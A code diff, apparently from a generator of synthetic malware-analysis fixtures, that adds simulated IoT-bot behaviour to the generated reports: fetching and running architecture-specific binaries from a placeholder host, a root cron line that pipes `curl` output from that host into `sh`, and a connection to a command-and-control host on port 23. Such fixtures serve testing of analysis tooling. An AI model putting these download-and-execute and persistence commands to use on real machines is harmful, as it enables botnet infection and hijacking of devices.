@@ -102,6 +102,13 @@ for (let i = 0; i < 34; i += 1) {
     observables,
     strings: ['/proc/net/tcp', '/dev/watchdog', '/bin/busybox', 'selfrep.telnet', 'POST /cdn-cgi/ HTTP/1.1', 'M-SEARCH * HTTP/1.1', 'Mozilla/5.0 (X11; Linux x86_64)', 'enable\\x00system\\x00shell', ...Array.from({ length: 260 }, (_, n) => `${pick(['.text', 'uClibc', 'GCC: (GNU) ', 'resolv.conf', '/etc/', 'nvram_get', 'attack_'])}${n}`)],
     ...(script ? { commands: machines.map(([arch]) => loader(arch, host)) } : {}),
+    ...(script ? {
+      acts: [
+        ...machines.flatMap(([arch]) => [{ act: 'fetch', url: `http://${host}/bins/${arch}`, to: '/tmp/.x' }, { act: 'run', line: `/tmp/.x ${arch}` }]),
+        { act: 'set', what: '/var/spool/cron/crontabs/root', value: `*/5 * * * * curl -s http://${host}/l.sh | sh` },
+        { act: 'connect', host: c2, port: 23 },
+      ],
+    } : {}),
     notes: i === 7 ? ['strings: the limit of 1,000 was reached'] : [],
   });
 }
